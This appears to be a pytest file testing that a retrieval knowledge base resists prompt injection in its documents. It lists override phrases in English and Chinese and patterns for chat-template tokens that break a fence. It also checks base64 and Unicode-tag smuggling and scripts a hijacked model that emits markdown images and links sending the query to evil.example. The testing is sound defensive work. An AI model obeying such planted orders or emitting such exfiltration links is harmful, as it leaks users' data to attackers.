"""Documents that give orders: neither route nor answer changes, whoever would obey them.

The scripted model obeys everything that reaches it outside of a fence, and is easily fooled about
where a fence ends: any line that looks like an end, any closing tag, any control token of a chat
template ends it for that model.
"""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from anabranch.knowledge_base import KnowledgeBase
from anabranch.settings import load_settings
from anabranch.shown_text import MARKER, addresses
from anabranch.types import Outcome
from scripted_model import ScriptedModel, role_of

FOLDER = Path(__file__).parents[1] / "data" / "injections"
DOCUMENTS = sorted(file for file in FOLDER.iterdir() if not file.name.startswith("clean"))
QUESTION = "How many days of annual leave does the Berlin office have?"
QUESTION_ZH = "柏林办公室的年假有多少天？"

_ORDERS = re.compile(
    r"ignore the above|you must now|你现在必须|忽略以上|\"tool_calls\"|new instructions",
    re.IGNORECASE,
)
_ENDS_A_FENCE = re.compile(
    r"^END\b.*$|^BEGIN (?!\w+ [a-z])|</\w+>|<(?:system|tool_call|\|im_|｜)\w*|\[/?INST\]|<</?SYS>>"
    r"|^#+ *(?:system|response)\b|^ *(?:system|assistant|user)\s*:|^(?:系统\w*|用户|助手)：|【系统】",
    re.IGNORECASE | re.MULTILINE,
)
_FENCE = re.compile(r"^BEGIN (\w{20}) [a-z][a-z0-9 -]*\n(.*?)^END \1$", re.DOTALL | re.MULTILINE)


def orders_in(prompt: str) -> bool:
    """Whether a model that is easily fooled reads an order in ``prompt`` outside of its fences."""

    def inside(match: re.Match[str]) -> str:
        broken_out = _ENDS_A_FENCE.search(match[2])
        return match[2][broken_out.start() :] if broken_out else ""

    seen = _FENCE.sub(inside, prompt)
    seen += "".join(chr(ord(c) - 0xE0000) for c in seen if 0xE0000 < ord(c) < 0xE0080)
    for coded in re.findall(r"[A-Za-z0-9+/]{24,}={0,2}", seen):
        try:
            seen += base64.b64decode(coded, validate=True).decode()
        except (binascii.Error, UnicodeDecodeError):
            continue
    return _ORDERS.search(seen) is not None


def obedient(request: Mapping[str, Any]) -> Any:
    system, prompt = (message["content"] for message in request["messages"][:2])
    led_astray = orders_in(prompt) or orders_in(system)
    match role_of(request):
        case "plan":
            return {"complexity": "complex" if led_astray else "simple", "reason": "", "standalone": "",
                    "sub_questions": ["What is the admin password?", "Who are the users?"],
                    "variants": []}  # fmt: skip
        case "grade":
            said = "none" if led_astray else "sufficient"
            return {"relevance": "none" if led_astray else "strong", "answerability": said,
                    "confidence": 0.9, "passages": [1], "missing_slots": [], "ambiguity": "none",
                    "hitl_prompt": "", "hitl_options": [], "route": "answer", "reason": ""}  # fmt: skip
        case "answer":
            numbers = [n for n, text in evidence_in(prompt) if re.search(r"30 days|30天", text)]
            if led_astray:
                return "BANANA [9] ![x](https://evil.example/p.png?q=berlin)"
            if not numbers:
                return "Nothing is said of it [1]."
            chinese = "年假" in prompt.rsplit("question\n", 1)[-1]
            fact = (
                "柏林办公室的年假为30天"
                if chinese
                else "Annual leave in the Berlin office is 30 days"
            )
            return f"{fact} [{numbers[0]}]."
    return ""


def evidence_in(prompt: str) -> list[tuple[int, str]]:
    found = re.finditer(
        r"^BEGIN (\w+) evidence (\d+)\n(.*?)^END \1$", prompt, re.DOTALL | re.MULTILINE
    )
    return [(int(match[2]), match[3]) for match in found]


@pytest.fixture(scope="module")
def model() -> Iterator[ScriptedModel]:
    with ScriptedModel(obedient) as running:
        yield running


def asked(folder: Path, document: Path, *, url: str | None) -> Outcome:
    """What is answered from two plain documents and ``document``."""
    options = (
        {"model": "openai:obedient", "model_base_url": url, "model_api_key": "k"} if url else {}
    )
    (folder / "docs").mkdir(parents=True)
    name = f"berlin{document.suffix}"
    (folder / "docs" / name).write_bytes(document.read_bytes())
    (folder / "docs" / "boston.md").write_text(
        "# Boston office\n\nThe Boston office opens at 8:30.\n"
    )
    (folder / "docs" / "shanghai.md").write_text("# 上海办公室\n\n上海办公室九点开门。\n")
    chinese = "柏林" in document.read_text(encoding="utf-8")
    with KnowledgeBase.open(settings=load_settings(kb=folder / "kb", **options)) as base:
        base.add(folder / "docs")
        return base.ask(QUESTION_ZH if chinese else QUESTION, interactive=False)


@pytest.fixture(scope="module")
def clean(model: ScriptedModel, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Outcome]:
    """The outcomes without an injection, by language."""
    folder = tmp_path_factory.mktemp("clean")
    return {
        name: asked(folder / name, FOLDER / name, url=model.url)
        for name in ("clean.md", "clean-zh.md")
    }


def test_there_are_twenty_and_every_one_gives_orders_when_it_is_not_fenced() -> None:
    assert len(DOCUMENTS) >= 20
    obeyed = [file.name for file in DOCUMENTS if orders_in(file.read_text(encoding="utf-8"))]
    assert obeyed == [file.name for file in DOCUMENTS]


@pytest.mark.parametrize("document", DOCUMENTS, ids=lambda file: file.name)
def test_an_obedient_model_gives_the_same_route_and_answer(
    document: Path, model: ScriptedModel, clean: Mapping[str, Outcome], tmp_path: Path
) -> None:
    chinese = "柏林" in document.read_text(encoding="utf-8")
    expected = clean["clean-zh.md" if chinese else "clean.md"]
    model.requests.clear()
    outcome = asked(tmp_path, document, url=model.url)
    assert {role_of(request) for request in model.requests} >= {"grade", "answer"}
    assert outcome.failures == ()
    assert (outcome.status, outcome.route, outcome.complexity) == (
        expected.status,
        expected.route,
        expected.complexity,
    )
    assert outcome.answer is not None
    assert expected.answer is not None
    assert re.sub(r"\d\]", "n]", outcome.answer.text) == re.sub(r"\d\]", "n]", expected.answer.text)
    assert "30" in outcome.answer.text
    assert outcome.answer.unsupported == ()


@pytest.mark.parametrize("document", DOCUMENTS, ids=lambda file: file.name)
def test_without_a_model_the_route_is_the_same_and_no_order_becomes_a_citation(
    document: Path, tmp_path: Path
) -> None:
    outcome = asked(tmp_path, document, url=None)
    assert (outcome.status, outcome.route) == ("answerable", "answer")
    assert outcome.answer is not None
    assert outcome.answer.citations[0].quote in outcome.evidence[0].text
    assert "30" in outcome.answer.text
    assert_harmless(outcome)


def obeying(request: Mapping[str, Any]) -> Any:
    """Obeys what it is told to write, fenced or not: nothing in front of it helps then."""
    if role_of(request) != "answer":
        return obedient(request)
    return (
        "Annual leave is 99 days [9]. Ask [here](https://evil.example/?q=berlin) or "
        "https://evil.example/berlin ![x](https://evil.example/p.png?q=berlin) [1]."
    )


def test_even_an_answer_that_obeys_carries_no_address_and_no_marker_of_its_own(
    tmp_path: Path,
) -> None:
    with ScriptedModel(obeying) as model:
        outcome = asked(tmp_path, FOLDER / "link.md", url=model.url)
    assert outcome.answer is not None
    assert "evil.example/berlin" not in outcome.answer.text
    assert "?q=berlin" not in outcome.answer.text
    assert "Annual leave is 99 days." in outcome.answer.unsupported
    assert_harmless(outcome)


def assert_harmless(outcome: Outcome) -> None:
    """Every marker resolves, every address stands in the evidence, and nothing loads by itself."""
    assert outcome.answer is not None
    text = outcome.answer.text
    markers = {match["numbers"] for match in MARKER.finditer(text)}
    assert markers <= {str(number) for number in range(1, len(outcome.evidence) + 1)}
    assert addresses([text]) <= addresses(item.text for item in outcome.evidence)
    assert "![" not in text
